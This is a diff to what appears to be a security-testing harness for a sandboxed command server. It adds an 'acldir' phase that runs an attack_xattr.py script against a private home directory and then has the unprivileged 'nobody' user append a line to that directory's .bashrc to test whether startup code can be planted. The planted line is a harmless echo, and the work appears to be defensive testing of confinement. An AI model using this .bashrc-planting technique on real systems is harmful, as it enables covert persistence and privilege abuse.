@@ -303,6 +303,16 @@ async def gate(c: Client) -> None:
         log(f"GATE {name}: " + (p.read_text() if p.exists() else "(none)"))
 
 
+async def acldir(c: Client) -> None:
+    """P4-3 on a directory: the (0700) home directory opened to uid 65534, who then plants a .bashrc."""
+    os.chmod(HOME, 0o700)
+    await call(c, "profile_command", cmd(["python", "attack_xattr.py", str(HOME)]))
+    log("ACLDIR ls -ld: " + subprocess.run(["ls", "-ld", str(HOME)], capture_output=True, text=True).stdout.strip())
+    cp = subprocess.run(["su", "-s", "/bin/sh", "nobody", "-c", f"echo 'echo planted-by-uid-65534' >> {HOME}/.bashrc; ls -la {HOME}"],
+                        capture_output=True, text=True)
+    log(f"ACLDIR as nobody: rc={cp.returncode} out={cp.stdout.strip()!r} err={cp.stderr.strip()!r}")
+
+
 async def signals(c: Client) -> None:
     """Which processes a command may signal (Landlock's signal scope)."""
     await call(c, "profile_command", cmd(["python", "sigscan.py"]), 3000)
@@ -388,13 +398,13 @@ async def main(phases: list[str]) -> None:
     for p in phases:
         if p in ("confine", "forge", "ghost", "deep", "progress"):
             pass
-    stdio_phases = [p for p in phases if p in ("confine", "forge", "ghost", "deep", "progress", "race", "gate", "signals")]
+    stdio_phases = [p for p in phases if p in ("confine", "forge", "ghost", "deep", "progress", "race", "gate", "signals", "acldir")]
     if stdio_phases:
         async with Client(stdio()) as c:
             log("server (stdio):", server_pids())
             for p in stdio_phases:
                 log(f"===== phase {p}")
-                await {"confine": confine, "forge": forge, "ghost": ghosts, "deep": deep, "progress": progress, "race": race, "gate": gate, "signals": signals}[p](c)
+                await {"confine": confine, "forge": forge, "ghost": ghosts, "deep": deep, "progress": progress, "race": race, "gate": gate, "signals": signals, "acldir": acldir}[p](c)
             spids = server_pids()
         time.sleep(3)
         log(f"AFTER SERVER EXIT: server pids {[p for p in spids if Path(f'/proc/{p}').exists()]}; "
